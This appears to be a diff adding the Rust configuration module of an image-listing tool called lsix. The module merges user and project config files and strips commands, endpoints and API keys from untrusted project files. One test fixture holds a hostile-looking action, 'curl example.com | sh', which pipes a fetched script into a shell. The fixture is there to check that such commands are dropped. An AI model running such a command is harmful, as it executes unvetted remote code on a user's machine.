@@ -0,0 +1,870 @@
+// Configuration file support: ~/.config/lsix/config.toml, overridden by the
+// `.lsix.toml` files of the directory being listed and its parents, so a
+// dataset repo can check in one file that sets the filters, tile size, AI
+// prompt and tag taxonomy for everyone working in its tree.
+//
+// Precedence, lowest to highest: built-in defaults, user config file,
+// project config files (the nearest last), LSIX_* environment variables,
+// command line flags.
+//
+// A project file comes with the folder it sits in, which may have been
+// downloaded or shared, so it only sets display settings, filters, group
+// names and the AI prompt and taxonomy. Commands, the opener, key bindings,
+// endpoints and API keys would let it run programs or send images and keys
+// elsewhere; they are dropped with a warning unless the user config lists
+// the project's directory in `trusted_projects`.
+
+use crate::ai_tagging::{parse_provider, AITaggingConfig, AiProvider};
+use crate::diagnostics::{self, Verbosity, WarningKind};
+use crate::embeddings::EmbeddingConfig;
+use crate::gif_frame::parse_gif_frame;
+use crate::image_proc::{parse_border, parse_encoder, parse_palette_mode, ImageConfig};
+use crate::terminal::{parse_protocol, GraphicsProtocol, TerminalConfig};
+use crate::watermark::{parse_watermark_position, Watermark, WatermarkPosition, DEFAULT_OPACITY};
+use anyhow::{Context, Result};
+use serde::Deserialize;
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+/// Name of the project config file, looked up from the listed directory
+/// upward
+pub const PROJECT_CONFIG_FILE: &str = ".lsix.toml";
+
+/// What a project config file outside the trusted directories may set:
+/// whole tables, or `table.key` for single keys
+const PROJECT_KEYS: [&str; 6] =
+    ["display", "filters", "group_names", "ai.prompt", "ai.taxonomy", "ai.max_tags"];
+
+/// Settings loaded from the config files. Every value is optional so that
+/// a later file only overrides what it actually sets.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// Grid layout and colors
+    pub display: DisplayConfig,
+    /// AI tagging endpoint and model
+    pub ai: AiConfig,
+    /// Embeddings endpoint and model for --search
+    pub embeddings: EmbeddingsConfig,
+    /// Default filters; each command line flag overrides its own field
+    pub filters: FilterDefaults,
+    /// How image paths are canonicalized
+    pub paths: PathsConfig,
+    /// TUI browser settings
+    pub tui: TuiConfig,
+    /// Local usage statistics
+    pub stats: StatsConfig,
+    /// TUI key overrides, action name => key or keys
+    /// (e.g. `quit = "x"`, `quit = ["q", "x"]`)
+    pub keybindings: HashMap<String, KeyList>,
+    /// Group name templates, group type => template
+    /// (e.g. `time = "{date} — {count} photos"`)
+    pub group_names: HashMap<String, String>,
+    /// Shell commands run on images from the TUI, key => command
+    /// (e.g. `e = "gimp {}"`)
+    pub actions: HashMap<String, String>,
+    /// Directories whose project config files, and those below them, may
+    /// set every key; only read from the user config
+    pub trusted_projects: Vec<String>,
+}
+
+/// Keys of one `[keybindings]` entry: one key or a list of them
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(untagged)]
+pub enum KeyList {
+    One(String),
+    Many(Vec<String>),
+}
+
+impl KeyList {
+    pub fn keys(&self) -> &[String] {
+        match self {
+            KeyList::One(key) => std::slice::from_ref(key),
+            KeyList::Many(keys) => keys,
+        }
+    }
+}
+
+/// `[display]` table
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct DisplayConfig {
+    /// Thumbnail size in pixels (LSIX_TILESIZE)
+    pub tile_size: Option<u32>,
+    /// Tiles per row; tiles shrink if they don't fit
+    pub columns: Option<u32>,
+    /// SIXEL palette size (LSIX_COLORS)
+    pub colors: Option<u32>,
+    /// Background color (LSIX_BACKGROUND)
+    pub background: Option<String>,
+    /// Label color (LSIX_FOREGROUND)
+    pub foreground: Option<String>,
+    /// Drop shadows under thumbnails (LSIX_SHADOW)
+    pub shadow: Option<bool>,
+    /// native or imagemagick (LSIX_ENCODER, --encoder)
+    pub encoder: Option<String>,
+    /// sixel, kitty or blocks (LSIX_PROTOCOL)
+    pub protocol: Option<String>,
+    /// global or per-row SIXEL palette (--palette)
+    pub palette: Option<String>,
+    /// first, middle, best or N: frame of animated thumbnails (--gif-frame)
+    pub gif_frame: Option<String>,
+    /// short or long filename labels (--mode)
+    pub mode: Option<String>,
+    /// Shadow lift strength for dark photos, 0.0 to 1.0 (--boost-shadows)
+    pub boost_shadows: Option<f32>,
+    /// Thumbnail border as "<px> <color>", e.g. "2 #444444" (--border)
+    pub border: Option<String>,
+    /// Padding in pixels on each side of a tile (--spacing)
+    pub spacing: Option<u32>,
+    /// Rounded thumbnail corners (--rounded)
+    pub rounded: Option<bool>,
+    /// Logo image or text stamped onto thumbnails (--watermark)
+    pub watermark: Option<String>,
+    /// tl, tr, bl, br or center (--watermark-pos)
+    pub watermark_pos: Option<String>,
+    /// 0.0 to 1.0 (--watermark-opacity)
+    pub watermark_opacity: Option<f32>,
+}
+
+/// `[ai]` table
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct AiConfig {
+    /// openai, anthropic or ollama (LSIX_AI_PROVIDER)
+    pub provider: Option<String>,
+    /// Chat completions endpoint (LSIX_AI_ENDPOINT)
+    pub endpoint: Option<String>,
+    /// Model name (LSIX_AI_MODEL)
+    pub model: Option<String>,
+    /// API key (LSIX_AI_API_KEY); prefer the environment for secrets
+    pub api_key: Option<String>,
+    /// Maximum tags per image
+    pub max_tags: Option<usize>,
+    /// Tagging prompt, replacing tag_prompt.md in the config directory
+    pub prompt: Option<String>,
+    /// The only tags the model may give; others are dropped
+    pub taxonomy: Option<Vec<String>>,
+    /// Maximum API requests in flight at once
+    pub concurrency: Option<usize>,
+    /// Maximum API requests started per minute
+    pub requests_per_minute: Option<u32>,
+}
+
+/// `[embeddings]` table
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct EmbeddingsConfig {
+    /// OpenAI-compatible embeddings endpoint (LSIX_EMBED_ENDPOINT)
+    pub endpoint: Option<String>,
+    /// CLIP-style model name (LSIX_EMBED_MODEL)
+    pub model: Option<String>,
+    /// API key (LSIX_EMBED_API_KEY); prefer the environment for secrets
+    pub api_key: Option<String>,
+    /// Maximum API requests in flight at once
+    pub concurrency: Option<usize>,
+    /// Maximum API requests started per minute
+    pub requests_per_minute: Option<u32>,
+}
+
+/// `[filters]` table, same names and formats as the command line flags
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct FilterDefaults {
+    pub min_width: Option<u32>,
+    pub max_width: Option<u32>,
+    pub min_height: Option<u32>,
+    pub max_height: Option<u32>,
+    /// e.g. "100K"
+    pub min_file_size: Option<String>,
+    /// e.g. "10M"
+    pub max_file_size: Option<String>,
+    pub min_brightness: Option<f32>,
+    pub max_brightness: Option<f32>,
+    /// landscape, portrait or square
+    pub orientation: Option<String>,
+}
+
+/// `[paths]` table
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct PathsConfig {
+    /// Resolve symlinks so a linked file shares its target's cache entries
+    /// (default true; --no-resolve-symlinks)
+    pub resolve_symlinks: Option<bool>,
+}
+
+/// `[tui]` table
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TuiConfig {
+    /// Viewer or editor the `o` key opens images with, `{}` standing for
+    /// the path (LSIX_OPEN_WITH; --open-with)
+    pub open_with: Option<String>,
+    /// Tile server the info panel's map downloads missing tiles from,
+    /// `{z}/{x}/{y}` standing for the tile (LSIX_MAP_TILES)
+    pub map_tiles: Option<String>,
+    /// Page the map key opens, `{lat}`, `{lon}` and `{zoom}` standing for
+    /// the position (LSIX_MAP_URL)
+    pub map_url: Option<String>,
+    /// Thumbnails per grid row, set with the + and - keys
+    /// (LSIX_GRID_COLUMNS)
+    pub grid_columns: Option<u16>,
+    /// Tags shown on each grid thumbnail, 0 for none (LSIX_BADGE_TAGS)
+    pub badge_tags: Option<usize>,
+}
+
+/// `[stats]` table
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct StatsConfig {
+    /// Keep usage statistics in the state directory for `lsix stats --self`
+    /// (default false; LSIX_STATS)
+    pub enabled: Option<bool>,
+}
+
+impl Config {
+    /// Overlay `other` on top of `self`: values set in `other` win
+    pub fn merge(self, other: Config) -> Config {
+        let mut keybindings = self.keybindings;
+        keybindings.extend(other.keybindings);
+        let mut group_names = self.group_names;
+        group_names.extend(other.group_names);
+        let mut actions = self.actions;
+        actions.extend(other.actions);
+        let mut trusted_projects = self.trusted_projects;
+        trusted_projects.extend(other.trusted_projects);
+
+        Config {
+            display: DisplayConfig {
+                tile_size: other.display.tile_size.or(self.display.tile_size),
+                columns: other.display.columns.or(self.display.columns),
+                colors: other.display.colors.or(self.display.colors),
+                background: other.display.background.or(self.display.background),
+                foreground: other.display.foreground.or(self.display.foreground),
+                shadow: other.display.shadow.or(self.display.shadow),
+                encoder: other.display.encoder.or(self.display.encoder),
+                palette: other.display.palette.or(self.display.palette),
+                gif_frame: other.display.gif_frame.or(self.display.gif_frame),
+                protocol: other.display.protocol.or(self.display.protocol),
+                mode: other.display.mode.or(self.display.mode),
+                boost_shadows: other.display.boost_shadows.or(self.display.boost_shadows),
+                border: other.display.border.or(self.display.border),
+                spacing: other.display.spacing.or(self.display.spacing),
+                rounded: other.display.rounded.or(self.display.rounded),
+                watermark: other.display.watermark.or(self.display.watermark),
+                watermark_pos: other.display.watermark_pos.or(self.display.watermark_pos),
+                watermark_opacity: other
+                    .display
+                    .watermark_opacity
+                    .or(self.display.watermark_opacity),
+            },
+            ai: AiConfig {
+                provider: other.ai.provider.or(self.ai.provider),
+                endpoint: other.ai.endpoint.or(self.ai.endpoint),
+                model: other.ai.model.or(self.ai.model),
+                api_key: other.ai.api_key.or(self.ai.api_key),
+                max_tags: other.ai.max_tags.or(self.ai.max_tags),
+                prompt: other.ai.prompt.or(self.ai.prompt),
+                taxonomy: other.ai.taxonomy.or(self.ai.taxonomy),
+                concurrency: other.ai.concurrency.or(self.ai.concurrency),
+                requests_per_minute: other
+                    .ai
+                    .requests_per_minute
+                    .or(self.ai.requests_per_minute),
+            },
+            embeddings: EmbeddingsConfig {
+                endpoint: other.embeddings.endpoint.or(self.embeddings.endpoint),
+                model: other.embeddings.model.or(self.embeddings.model),
+                api_key: other.embeddings.api_key.or(self.embeddings.api_key),
+                concurrency: other.embeddings.concurrency.or(self.embeddings.concurrency),
+                requests_per_minute: other
+                    .embeddings
+                    .requests_per_minute
+                    .or(self.embeddings.requests_per_minute),
+            },
+            filters: FilterDefaults {
+                min_width: other.filters.min_width.or(self.filters.min_width),
+                max_width: other.filters.max_width.or(self.filters.max_width),
+                min_height: other.filters.min_height.or(self.filters.min_height),
+                max_height: other.filters.max_height.or(self.filters.max_height),
+                min_file_size: other.filters.min_file_size.or(self.filters.min_file_size),
+                max_file_size: other.filters.max_file_size.or(self.filters.max_file_size),
+                min_brightness: other.filters.min_brightness.or(self.filters.min_brightness),
+                max_brightness: other.filters.max_brightness.or(self.filters.max_brightness),
+                orientation: other.filters.orientation.or(self.filters.orientation),
+            },
+            paths: PathsConfig {
+                resolve_symlinks: other.paths.resolve_symlinks.or(self.paths.resolve_symlinks),
+            },
+            tui: TuiConfig {
+                open_with: other.tui.open_with.or(self.tui.open_with),
+                map_tiles: other.tui.map_tiles.or(self.tui.map_tiles),
+                map_url: other.tui.map_url.or(self.tui.map_url),
+                grid_columns: other.tui.grid_columns.or(self.tui.grid_columns),
+                badge_tags: other.tui.badge_tags.or(self.tui.badge_tags),
+            },
+            stats: StatsConfig {
+                enabled: other.stats.enabled.or(self.stats.enabled),
+            },
+            keybindings,
+            group_names,
+            actions,
+            trusted_projects,
+        }
+    }
+
+    /// Graphics protocol requested by the config, unless LSIX_PROTOCOL is set
+    pub fn protocol(&self) -> Result<Option<GraphicsProtocol>> {
+        match &self.display.protocol {
+            Some(protocol) if !env_set("LSIX_PROTOCOL") => Ok(Some(parse_protocol(protocol)?)),
+            _ => Ok(None),
+        }
+    }
+
+    /// Command to open images with from the TUI: LSIX_OPEN_WITH, else the
+    /// config
+    pub fn open_with(&self) -> Option<String> {
+        env_or("LSIX_OPEN_WITH", self.tui.open_with.clone())
+    }
+
+    /// Tile server and map page for the TUI info panel: LSIX_MAP_TILES and
+    /// LSIX_MAP_URL, else the config
+    pub fn map(&self) -> (Option<String>, Option<String>) {
+        (
+            env_or("LSIX_MAP_TILES", self.tui.map_tiles.clone()),
+            env_or("LSIX_MAP_URL", self.tui.map_url.clone()),
+        )
+    }
+
+    /// Thumbnails per TUI grid row: LSIX_GRID_COLUMNS, else the config
+    pub fn grid_columns(&self) -> Option<u16> {
+        env_or("LSIX_GRID_COLUMNS", self.tui.grid_columns)
+    }
+
+    /// Tags shown on each TUI grid thumbnail: LSIX_BADGE_TAGS, else the
+    /// config
+    pub fn badge_tags(&self) -> Option<usize> {
+        env_or("LSIX_BADGE_TAGS", self.tui.badge_tags)
+    }
+
+    /// Whether to keep usage statistics: LSIX_STATS (anything but "0"),
+    /// else the config, else no
+    pub fn stats_enabled(&self) -> bool {
+        match std::env::var("LSIX_STATS") {
+            Ok(value) => value != "0",
+            Err(_) => self.stats.enabled.unwrap_or(false),
+        }
+    }
+
+    /// Apply colors from the config where no environment override exists
+    pub fn apply_terminal(&self, term_config: &mut TerminalConfig) {
+        if !env_set("LSIX_BACKGROUND") {
+            if let Some(bg) = &self.display.background {
+                term_config.background = bg.clone();
+            }
+        }
+        if !env_set("LSIX_FOREGROUND") {
+            if let Some(fg) = &self.display.foreground {
+                term_config.foreground = fg.clone();
+            }
+        }
+    }
+
+    /// Apply grid layout settings where no environment override exists.
+    /// `terminal_width` is the width in pixels the layout was computed for.
+    pub fn apply_image(&self, image_config: &mut ImageConfig, terminal_width: u32) -> Result<()> {
+        // Spacing and border first: the tile size and columns fit around them
+        if let Some(spacing) = self.display.spacing {
+            image_config.set_spacing(terminal_width, spacing);
+        }
+        if let Some(border) = &self.display.border {
+            let (px, color) = parse_border(border)?;
+            image_config.set_border(terminal_width, px, &color);
+        }
+        if let Some(rounded) = self.display.rounded {
+            image_config.rounded = rounded;
+        }
+        if !env_set("LSIX_TILESIZE") {
+            if let Some(tile_size) = self.display.tile_size {
+                image_config.set_tile_size(terminal_width, tile_size);
+            }
+        }
+        if let Some(columns) = self.display.columns {
+            image_config.set_columns(terminal_width, columns);
+        }
+        if !env_set("LSIX_COLORS") {
+            if let Some(colors) = self.display.colors {
+                image_config.num_colors = colors;
+            }
+        }
+        if !env_set("LSIX_SHADOW") {
+            if let Some(shadow) = self.display.shadow {
+                image_config.shadow = shadow;
+            }
+        }
+        if !env_set("LSIX_ENCODER") {
+            if let Some(encoder) = &self.display.encoder {
+                image_config.encoder = parse_encoder(encoder)?;
+            }
+        }
+        if let Some(palette) = &self.display.palette {
+            image_config.palette = parse_palette_mode(palette)?;
+        }
+        if let Some(frame) = &self.display.gif_frame {
+            image_config.gif_frame = parse_gif_frame(frame)?;
+        }
+        if let Some(strength) = self.display.boost_shadows {
+            image_config.boost_shadows = Some(strength);
+        }
+        if let Some(spec) = &self.display.watermark {
+            let position = self
+                .display
+                .watermark_pos
+                .as_deref()
+                .map(parse_watermark_position)
+                .transpose()?
+                .unwrap_or(WatermarkPosition::BottomRight);
+            let opacity = self.display.watermark_opacity.unwrap_or(DEFAULT_OPACITY);
+            image_config.watermark = Some(Arc::new(Watermark::load(spec, position, opacity)?));
+        }
+        Ok(())
+    }
+
+    /// Apply AI settings where no environment override exists
+    pub fn apply_ai(&self, ai_config: &mut AITaggingConfig) -> Result<()> {
+        // Provider first: it brings its own default endpoint and model
+        if !env_set("LSIX_AI_PROVIDER") {
+            if let Some(provider) = &self.ai.provider {
+                ai_config.set_provider(parse_provider(provider)?);
+            }
+        }
+        if !env_set("LSIX_AI_ENDPOINT") {
+            if let Some(endpoint) = &self.ai.endpoint {
+                ai_config.api_endpoint = endpoint.clone();
+                // An endpoint alone is enough to tell e.g. Ollama apart
+                if self.ai.provider.is_none() && !env_set("LSIX_AI_PROVIDER") {
+                    ai_config.provider = AiProvider::from_endpoint(endpoint);
+                }
+            }
+        }
+        if !env_set("LSIX_AI_MODEL") {
+            if let Some(model) = &self.ai.model {
+                ai_config.model = model.clone();
+            }
+        }
+        if !env_set("LSIX_AI_API_KEY") {
+            if let Some(api_key) = &self.ai.api_key {
+                ai_config.api_key = api_key.clone();
+            }
+        }
+        if let Some(max_tags) = self.ai.max_tags {
+            ai_config.max_tags = max_tags;
+        }
+        if let Some(prompt) = &self.ai.prompt {
+            ai_config.custom_prompt = Some(prompt.clone());
+        }
+        if let Some(taxonomy) = &self.ai.taxonomy {
+            ai_config.taxonomy = taxonomy.iter().map(|tag| tag.trim().to_lowercase()).collect();
+        }
+        if let Some(concurrency) = self.ai.concurrency {
+            ai_config.concurrency = concurrency;
+        }
+        if self.ai.requests_per_minute.is_some() {
+            ai_config.requests_per_minute = self.ai.requests_per_minute;
+        }
+        Ok(())
+    }
+
+    /// Apply embeddings settings where no environment override exists
+    pub fn apply_embeddings(&self, embed_config: &mut EmbeddingConfig) {
+        if !env_set("LSIX_EMBED_ENDPOINT") {
+            if let Some(endpoint) = &self.embeddings.endpoint {
+                embed_config.api_endpoint = endpoint.clone();
+            }
+        }
+        if !env_set("LSIX_EMBED_MODEL") {
+            if let Some(model) = &self.embeddings.model {
+                embed_config.model = model.clone();
+            }
+        }
+        if !env_set("LSIX_EMBED_API_KEY") {
+            if let Some(api_key) = &self.embeddings.api_key {
+                embed_config.api_key = api_key.clone();
+            }
+        }
+        if let Some(concurrency) = self.embeddings.concurrency {
+            embed_config.concurrency = concurrency;
+        }
+        if self.embeddings.requests_per_minute.is_some() {
+            embed_config.requests_per_minute = self.embeddings.requests_per_minute;
+        }
+    }
+}
+
+fn env_set(name: &str) -> bool {
+    std::env::var_os(name).is_some()
+}
+
+/// The environment variable `name` when set and not blank, else `value`
+/// from the config; a value that doesn't parse counts as unset
+fn env_or<T: std::str::FromStr>(name: &str, value: Option<T>) -> Option<T> {
+    match std::env::var(name) {
+        Ok(set) if !set.trim().is_empty() => set.trim().parse().ok(),
+        _ => value,
+    }
+}
+
+/// Location of the user config file
+pub fn user_config_path() -> PathBuf {
+    crate::app_dirs::config_dir().join("config.toml")
+}
+
+/// `content` with `key = value` set in `[table]`: an existing line for the
+/// key is replaced, otherwise the line goes first in the table, which is
+/// added at the end when missing. Everything else, comments included, is
+/// kept as it was.
+pub fn with_value(content: &str, table: &str, key: &str, value: &str) -> String {
+    let setting = format!("{} = {}", key, value);
+    let mut lines: Vec<String> = content.lines().map(str::to_string).collect();
+    let header = format!("[{}]", table);
+    let Some(start) = lines.iter().position(|line| line.trim() == header) else {
+        if lines.last().is_some_and(|line| !line.trim().is_empty()) {
+            lines.push(String::new());
+        }
+        lines.push(header);
+        lines.push(setting);
+        return lines.join("\n") + "\n";
+    };
+
+    let end = lines[start + 1..]
+        .iter()
+        .position(|line| line.trim_start().starts_with('['))
+        .map_or(lines.len(), |offset| start + 1 + offset);
+    let existing = (start + 1..end).find(|&i| {
+        lines[i].split_once('=').is_some_and(|(name, _)| name.trim() == key)
+    });
+    match existing {
+        Some(i) => lines[i] = setting,
+        None => lines.insert(start + 1, setting),
+    }
+    lines.join("\n") + "\n"
+}
+
+/// Save `key = value` in `[table]` of the user config file, creating it if
+/// needed. The result must still be a valid config.
+pub fn save_user_value(table: &str, key: &str, value: &str) -> Result<()> {
+    let path = user_config_path();
+    let content = match fs::read_to_string(&path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(e).with_context(|| format!("Failed to read {}", path.display())),
+    };
+    let updated = with_value(&content, table, key, value);
+    toml::from_str::<Config>(&updated)
+        .with_context(|| format!("Can't set {}.{} in {}", table, key, path.display()))?;
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)
+            .with_context(|| format!("Failed to create {}", parent.display()))?;
+    }
+    let tmp = path.with_extension("toml.tmp");
+    fs::write(&tmp, updated).with_context(|| format!("Failed to write {}", tmp.display()))?;
+    fs::rename(&tmp, &path).with_context(|| format!("Failed to write {}", path.display()))
+}
+
+/// Parse one config file. A relative watermark path is taken relative to
+/// the file, so a project config can point at a logo checked in next to it.
+pub fn load_config_file(path: &Path) -> Result<Config> {
+    let content =
+        fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    let config: Config = toml::from_str(&content)
+        .with_context(|| format!("Invalid config file {}", path.display()))?;
+    Ok(resolve_config_file(config, path))
+}
+
+/// Finish a config parsed from the file at `path`: resolve its watermark
+/// path and say which file is used
+fn resolve_config_file(mut config: Config, path: &Path) -> Config {
+    if let (Some(watermark), Some(dir)) = (&config.display.watermark, path.parent()) {
+        let beside = dir.join(watermark);
+        if Path::new(watermark).is_relative() && beside.is_file() {
+            config.display.watermark = Some(beside.to_string_lossy().to_string());
+        }
+    }
+    if diagnostics::verbosity() >= Verbosity::Verbose {
+        eprintln!("Using config {}", path.display());
+    }
+    config
+}
+
+/// Remove from `table` what an untrusted project file may not set (see
+/// PROJECT_KEYS); returns the names of the removed keys
+fn remove_untrusted_keys(table: &mut toml::Table) -> Vec<String> {
+    let mut refused = Vec::new();
+    table.retain(|name, value| {
+        if PROJECT_KEYS.contains(&name) {
+            return true;
+        }
+        let Some(inner) = value.as_table_mut() else {
+            refused.push(name.to_string());
+            return false;
+        };
+        inner.retain(|key, _| {
+            let dotted = format!("{}.{}", name, key);
+            let allowed = PROJECT_KEYS.contains(&dotted.as_str());
+            if !allowed {
+                refused.push(dotted);
+            }
+            allowed
+        });
+        !inner.is_empty()
+    });
+    refused
+}
+
+/// `path` with a leading `~/` taken from the home directory
+fn expand_home(path: &str) -> PathBuf {
+    match path.strip_prefix("~/") {
+        Some(rest) => crate::app_dirs::home().join(rest),
+        None => PathBuf::from(path),
+    }
+}
+
+/// Whether the project file at `path` is in or below one of the `trusted`
+/// directories; relative entries are ignored
+fn is_trusted(path: &Path, trusted: &[String]) -> bool {
+    let Some(dir) = path.parent() else {
+        return false;
+    };
+    let dir = fs::canonicalize(dir).unwrap_or_else(|_| dir.to_path_buf());
+    trusted.iter().map(|entry| expand_home(entry)).filter(|entry| entry.is_absolute()).any(
+        |entry| dir.starts_with(fs::canonicalize(&entry).unwrap_or(entry)),
+    )
+}
+
+/// Parse one project config file. Outside the `trusted` directories, keys
+/// a project may not set are dropped with a warning.
+fn load_project_config_file(path: &Path, trusted: &[String]) -> Result<Config> {
+    let content =
+        fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    let config: Config = toml::from_str(&content)
+        .with_context(|| format!("Invalid config file {}", path.display()))?;
+    if is_trusted(path, trusted) {
+        return Ok(resolve_config_file(config, path));
+    }
+
+    // As a plain table, keys can be dropped by name
+    let mut table: toml::Table = toml::from_str(&content)
+        .with_context(|| format!("Invalid config file {}", path.display()))?;
+    let refused = remove_untrusted_keys(&mut table);
+    if refused.is_empty() {
+        return Ok(resolve_config_file(config, path));
+    }
+    diagnostics::warn(
+        WarningKind::Other,
+        &format!(
+            "ignoring {} in {}: project config files may not set them unless their directory is \
+             in trusted_projects in {}",
+            refused.join(", "),
+            path.display(),
+            user_config_path().display()
+        ),
+    );
+    let config: Config = toml::Value::Table(table)
+        .try_into()
+        .with_context(|| format!("Invalid config file {}", path.display()))?;
+    Ok(resolve_config_file(config, path))
+}
+
+/// Directory the project config is looked up from: that of the first local
+/// input (a file's own directory), or the current directory
+pub fn target_dir(inputs: &[String]) -> PathBuf {
+    let local = inputs
+        .iter()
+        .map(Path::new)
+        .find(|path| path.exists())
+        .map(|path| if path.is_dir() { path } else { path.parent().unwrap_or(path) });
+    let dir = match local {
+        Some(dir) if !dir.as_os_str().is_empty() => dir.to_path_buf(),
+        _ => PathBuf::from("."),
+    };
+    fs::canonicalize(&dir).unwrap_or(dir)
+}
+
+/// `.lsix.toml` files in `dir` and its parents, outermost first
+pub fn project_config_paths(dir: &Path) -> Vec<PathBuf> {
+    let mut paths: Vec<PathBuf> = dir
+        .ancestors()
+        .map(|ancestor| ancestor.join(PROJECT_CONFIG_FILE))
+        .filter(|path| path.is_file())
+        .collect();
+    paths.reverse();
+    paths
+}
+
+/// The project config files that apply to `dir`, merged so the nearest
+/// one wins; those outside the `trusted` directories are restricted
+pub fn load_project_config(dir: &Path, trusted: &[String]) -> Result<Config> {
+    project_config_paths(dir).iter().try_fold(Config::default(), |config, path| {
+        Ok(config.merge(load_project_config_file(path, trusted)?))
+    })
+}
+
+/// Load the user config, then the project config files that apply to
+/// `dir`. Missing files are skipped; malformed ones are an error.
+pub fn load_config(dir: &Path) -> Result<Config> {
+    let mut config = Config::default();
+
+    let user_path = user_config_path();
+    if user_path.is_file() {
+        config = config.merge(load_config_file(&user_path)?);
+    }
+
+    let project = load_project_config(dir, &config.trusted_projects)?;
+    Ok(config.merge(project))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::test_dir::TestDir;
+
+    #[test]
+    fn test_parse_config() {
+        let config: Config = toml::from_str(
+            r##"
+            [display]
+            tile_size = 240
+            background = "#000000"
+
+            [ai]
+            model = "llava"
+
+            [embeddings]
+            model = "jina-clip-v2"
+
+            [filters]
+            min_width = 800
+            min_file_size = "100K"
+
+            [tui]
+            open_with = "feh {}"
+            map_tiles = "https://tile.openstreetmap.org/{z}/{x}/{y}.png"
+
+            [stats]
+            enabled = true
+
+            [keybindings]
+            quit = "x"
+            wipe = ["w", "W"]
+
+            [group_names]
+            time = "{date} — {count} photos"
+
+            [actions]
+            e = "gimp {}"
+            "##,
+        )
+        .unwrap();
+
+        assert_eq!(config.display.tile_size, Some(240));
+        assert_eq!(config.display.background.as_deref(), Some("#000000"));
+        assert_eq!(config.ai.model.as_deref(), Some("llava"));
+        assert_eq!(config.embeddings.model.as_deref(), Some("jina-clip-v2"));
+        assert_eq!(config.filters.min_width, Some(800));
+        assert_eq!(config.filters.min_file_size.as_deref(), Some("100K"));
+        assert_eq!(config.tui.open_with.as_deref(), Some("feh {}"));
+        assert!(config.tui.map_tiles.is_some_and(|url| url.ends_with("{y}.png")));
+        assert_eq!(config.tui.map_url, None);
+        assert_eq!(config.stats.enabled, Some(true));
+        assert_eq!(config.keybindings.get("quit").map(KeyList::keys), Some(&["x".to_string()][..]));
+        assert_eq!(config.keybindings.get("wipe").map(|k| k.keys().len()), Some(2));
+        assert_eq!(
+            config.group_names.get("time").map(String::as_str),
+            Some("{date} — {count} photos")
+        );
+        assert_eq!(config.actions.get("e").map(String::as_str), Some("gimp {}"));
+    }
+
+    #[test]
+    fn test_unknown_keys_are_rejected() {
+        assert!(toml::from_str::<Config>("[display]\ntilesize = 10\n").is_err());
+    }
+
+    #[test]
+    fn test_merge_prefers_later_values() {
+        let user: Config =
+            toml::from_str("[display]\ntile_size = 360\ncolors = 64\n[keybindings]\nquit = \"x\"\n")
+                .unwrap();
+        let project: Config =
+            toml::from_str("[display]\ntile_size = 200\n[keybindings]\nwipe = \"v\"\n").unwrap();
+
+        let merged = user.merge(project);
+        assert_eq!(merged.display.tile_size, Some(200));
+        assert_eq!(merged.display.colors, Some(64));
+        assert_eq!(merged.keybindings.len(), 2);
+    }
+
+    #[test]
+    fn test_with_value() {
+        let content = "# mine\n[tui]\nopen_with = \"feh {}\"\ngrid_columns = 5\n\n[stats]\n";
+        let updated = with_value(content, "tui", "grid_columns", "7");
+        assert_eq!(updated, content.replace("= 5", "= 7"));
+        let updated = with_value(&updated, "stats", "enabled", "true");
+        assert!(updated.ends_with("[stats]\nenabled = true\n"));
+        assert_eq!(with_value("", "tui", "grid_columns", "3"), "[tui]\ngrid_columns = 3\n");
+
+        let config: Config = toml::from_str(&with_value("[display]\n", "tui", "grid_columns", "4"))
+            .unwrap();
+        assert_eq!(config.tui.grid_columns, Some(4));
+    }
+
+    #[test]
+    fn test_project_configs_layer_upward() {
+        let root = TestDir::new("config");
+        let sub = root.join("dataset").join("train");
+        fs::create_dir_all(&sub).unwrap();
+        fs::write(
+            root.join(PROJECT_CONFIG_FILE),
+            "[display]\ntile_size = 200\ncolors = 64\n[ai]\ntaxonomy = [\"cat\", \"dog\"]\n",
+        )
+        .unwrap();
+        fs::write(root.join("dataset").join(PROJECT_CONFIG_FILE), "[display]\ntile_size = 120\n")
+            .unwrap();
+        fs::write(sub.join("a.png"), b"").unwrap();
+
+        let file = sub.join("a.png").to_string_lossy().to_string();
+        assert_eq!(target_dir(&[file]), fs::canonicalize(&sub).unwrap());
+        assert_eq!(project_config_paths(&sub).len(), 2);
+        let config = load_project_config(&sub, &[]).unwrap();
+        assert_eq!(config.display.tile_size, Some(120));
+        assert_eq!(config.display.colors, Some(64));
+        assert_eq!(config.ai.taxonomy, Some(vec!["cat".to_string(), "dog".to_string()]));
+    }
+
+    #[test]
+    fn test_untrusted_project_config() {
+        let root = TestDir::new("untrusted");
+        fs::write(
+            root.join(PROJECT_CONFIG_FILE),
+            "[display]\ntile_size = 200\n[ai]\nendpoint = \"https://example.com/v1\"\n\
+             taxonomy = [\"cat\"]\n[actions]\ne = \"curl example.com | sh\"\n",
+        )
+        .unwrap();
+
+        let config = load_project_config(&root, &[]).unwrap();
+        assert_eq!(config.display.tile_size, Some(200));
+        assert_eq!(config.ai.taxonomy, Some(vec!["cat".to_string()]));
+        assert_eq!(config.ai.endpoint, None);
+        assert!(config.actions.is_empty());
+
+        // Unless the user trusts the directory
+        let trusted = [root.to_string_lossy().to_string()];
+        let config = load_project_config(&root, &trusted).unwrap();
+        assert_eq!(config.ai.endpoint.as_deref(), Some("https://example.com/v1"));
+        assert_eq!(config.actions.len(), 1);
+    }
+}